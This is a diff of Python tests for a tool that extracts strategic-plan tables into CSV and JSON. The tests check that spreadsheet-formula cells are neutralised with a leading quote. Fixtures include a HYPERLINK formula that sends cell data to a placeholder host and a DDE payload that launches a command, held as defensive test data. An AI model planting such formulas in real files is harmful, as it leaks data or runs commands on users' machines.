@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import csv
 import errno
+import io
 import itertools
 import json
 import os
@@ -463,3 +464,71 @@ def test_a_target_that_is_a_folder_is_refused_before_anything_is_renamed(tmp_pat
         file.abort()
     assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "summary.json"]
     assert (tmp_path / "a.csv").read_bytes() == b"old a"
+
+
+# --- formula injection -------------------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1,"klik")'
+HOSTILE_RENSTRA = (
+    "RENCANA STRATEGIS DINAS PENDIDIKAN KABUPATEN CONTOH TAHUN 2021-2025\n\n"
+    "NO.\tINDIKATOR\tSATUAN\t2021\t2022\t2023\t2024\t2025\n"
+    f"1\t{FORMULA_NAME}\t%\t-5\t+2%\t@SUM(1)\t-1,5\t=1+1\n"
+    "2\tPersentase sekolah terakreditasi\t%\t-\t10\t20\t30\t40\n"
+)
+"""A table whose cells a spreadsheet would run (a name and two targets), beside negative
+targets, a change (``+2%``) and a ``-`` placeholder, which are no formula."""
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (FORMULA_NAME, "'" + FORMULA_NAME),
+        ("=1+1", "'=1+1"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+E1", "'+E1"),  # a reference
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # DDE
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("- 5", "'- 5"),
+        # plain numbers, signed: no letter, reference or operator but the sign
+        ("-5", "-5"),
+        ("+2%", "+2%"),
+        ("-1,5", "-1,5"),
+        ("-1.234,56", "-1.234,56"),
+        ("-1e-05", "-1e-05"),  # the target_value column writes small numbers so
+        ("-", "-"),  # the placeholder many tables write
+        ("Persentase (%)", "Persentase (%)"),
+        (5, 5),
+    ],
+)
+def test_a_csv_cell_that_would_run_as_a_formula_gets_a_quote(cell: object, written: str) -> None:
+    data = csv_bytes([[cell]]).decode("utf-8")
+    assert next(csv.reader(io.StringIO(data))) == [str(written)]
+
+
+def test_extract_neutralises_formulas_in_the_csvs_and_keeps_the_json_exact(
+    tmp_path: Path,
+) -> None:
+    from renstra.extract.cli import app
+    from typer.testing import CliRunner
+
+    source = tmp_path / "renstra.txt"
+    source.write_text(HOSTILE_RENSTRA, encoding="utf-8")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(app, ["extract", str(source), "-o", str(out), "-q"])
+    assert result.exit_code == 0, result.output
+    document = json.loads((out / "renstra.json").read_bytes())
+    first = document["indicators"][0]
+    assert first["name"] == FORMULA_NAME
+    assert [t["text"] for t in first["targets"]] == ["-5", "+2%", "@SUM(1)", "-1,5", "=1+1"]
+    with open(out / "indicators.csv", encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {row["name"] for row in rows[:5]} == {"'" + FORMULA_NAME}
+    assert [row["target_text"] for row in rows] == [
+        "-5", "+2%", "'@SUM(1)", "-1,5", "'=1+1", "-", "10", "20", "30", "40",
+    ]  # fmt: skip
+    assert [row["target_value"] for row in rows[:5]] == ["-5", "2", "", "-1.5", ""]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)
+    frame = pd.read_csv(out / "indicators.csv")
+    assert frame["target_value"].dtype.kind == "f"  # the negative targets stay numbers
